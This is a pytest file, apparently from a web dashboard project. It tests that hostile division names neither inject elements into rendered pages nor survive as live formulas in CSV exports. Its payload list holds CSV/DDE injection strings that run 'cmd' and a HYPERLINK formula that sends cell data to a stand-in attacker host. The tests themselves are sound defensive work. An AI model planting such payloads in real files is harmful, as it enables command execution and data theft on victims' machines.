"""A division may be called what it likes: no page and no spreadsheet takes its name for code (T25, T27)."""

import csv
import io
import json

import pytest
from lxml import html

from plnhub.models.releases import ReleaseCell
from plnhub.web.dashboards import FORMULA_STARTS
from tests.attacks.world import HOSTILE
from tests.makers import Company

pytestmark = pytest.mark.authz

FORMULAS = (
    "=1+1",
    "+1+1|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"x")',
    '"=1+1',
    "-nan(x)",
)


@pytest.fixture
def page(visitor) -> str:
    answer = visitor("leader").get("/flow/")
    assert answer.status_code == 200
    return str(answer.text)


def test_a_hostile_name_cannot_end_the_data_of_a_chart(page: str):
    scripts = html.fromstring(page).xpath("//script[@type='application/json']")
    drawings = [json.loads(script.text) for script in scripts]
    assert any(HOSTILE in drawing.get("rows", ()) for drawing in drawings)
    assert HOSTILE not in page


def test_a_hostile_name_makes_no_element(page: str):
    parsed = html.fromstring(page)
    assert not parsed.xpath("//img[@src='x']")
    assert not parsed.xpath("//script[not(@src) and not(@type='application/json')]")
    assert HOSTILE in parsed.text_content()


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_an_export_is_a_formula(name: str, company: Company, world, visitor):
    cell = company.session.query(ReleaseCell).first()
    for each in company.session.query(ReleaseCell).filter_by(cohort="=1+1"):
        each.cohort = name
    for each in company.session.query(ReleaseCell).filter_by(other_cohort="=1+1"):
        each.other_cohort = name
    assert cell
    company.session.commit()
    browser = visitor("leader")
    for path in ("/flow/release.csv", "/flow/learning.csv", "/flow/border.csv"):
        answer = browser.get(path)
        assert answer.status_code == 200
        table = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert not [each for row in table for each in row if each.startswith(FORMULA_STARTS)]
        assert "attachment" in answer.headers["Content-Disposition"]
    names = {row[2] for row in csv.reader(io.StringIO(browser.get("/flow/release.csv").text, newline=""))}
    assert name in names or f"'{name}" in names
